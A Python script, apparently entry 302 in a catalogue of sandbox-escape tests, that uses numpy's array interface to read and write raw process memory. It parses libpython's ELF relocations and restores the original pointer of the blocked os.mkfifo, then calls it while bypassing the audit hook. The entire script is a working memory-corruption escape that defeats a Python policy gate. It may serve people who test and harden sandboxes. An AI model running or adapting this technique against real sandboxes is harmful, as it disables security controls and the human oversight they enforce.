# escape: 302
# policy-gate: optional; numpy hands out native memory by design, and the wall holds it
# packages: numpy
# technique: native memory by __array_interface__: the original of a denied function is in libpython's relocations; put it back and call it
# family: memory
# goal: run-command
# first-seen: numpy's array interface protocol; ELF relocations
import os
import numpy as np
class Memory:
    def __init__(self, at, n, code="<u8"):
        self.__array_interface__ = {"version": 3, "typestr": code, "shape": (n,), "data": (int(at), False)}
def words(at, n, code="<u8"): return np.array(Memory(at, n, code), copy=False)
definition = int(words(id(os.mkfifo), 4)[2])         # PyCFunctionObject.m_ml
base = definition & ~0xfff
while int(words(base, 1)[0]) & 0xffffffff != 0x464c457f: base -= 0x1000
phoff, phnum = int(words(base + 32, 1)[0]), int(words(base + 56, 1, "<u2")[0])
for i in range(phnum):
    at = base + phoff + 56 * i
    if int(words(at, 1, "<u4")[0]) == 2:              # PT_DYNAMIC
        dynamic = base + int(words(at + 16, 1)[0])
tags = {}
for tag, value in words(dynamic, 200).reshape(-1, 2):
    if tag == 0: break
    tags[int(tag)] = int(value)
rela, size = tags[7], tags[8]
if rela < base: rela += base
rows = words(rela, size // 8).reshape(-1, 3)
row = rows[rows[:, 0] == definition + 8 - base][0]
words(definition + 8, 1)[0] = base + int(row[2])
try: os.mkfifo("/tmp")    # no audit event either
except FileExistsError: print("ESCAPED:the kernel answers mkfifo(3)")
